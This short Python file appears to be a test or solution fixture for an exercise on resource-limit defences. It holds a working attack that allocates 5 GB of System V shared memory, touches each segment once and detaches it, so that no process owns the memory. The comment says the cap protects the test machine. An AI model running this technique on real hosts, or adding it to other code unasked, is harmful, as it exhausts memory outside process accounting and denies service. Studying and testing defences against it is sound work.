# @@include solutions/q1_expressivity.py
# Attack: 5 GB of SysV shared memory, touched once and detached, so no process maps it (capped at 5 GB so that a
# failing defence cannot hurt the machine).
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
for _ in range(5):
    _id = _libc.shmget(0, 1 << 30, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if _id < 0:
        raise OSError(_ctypes.get_errno(), "shmget refused")
    _address = _libc.shmat(_id, None, 0)
    _ctypes.memset(_address, 1, 1 << 30)
    _libc.shmdt(_ctypes.c_void_p(_address))
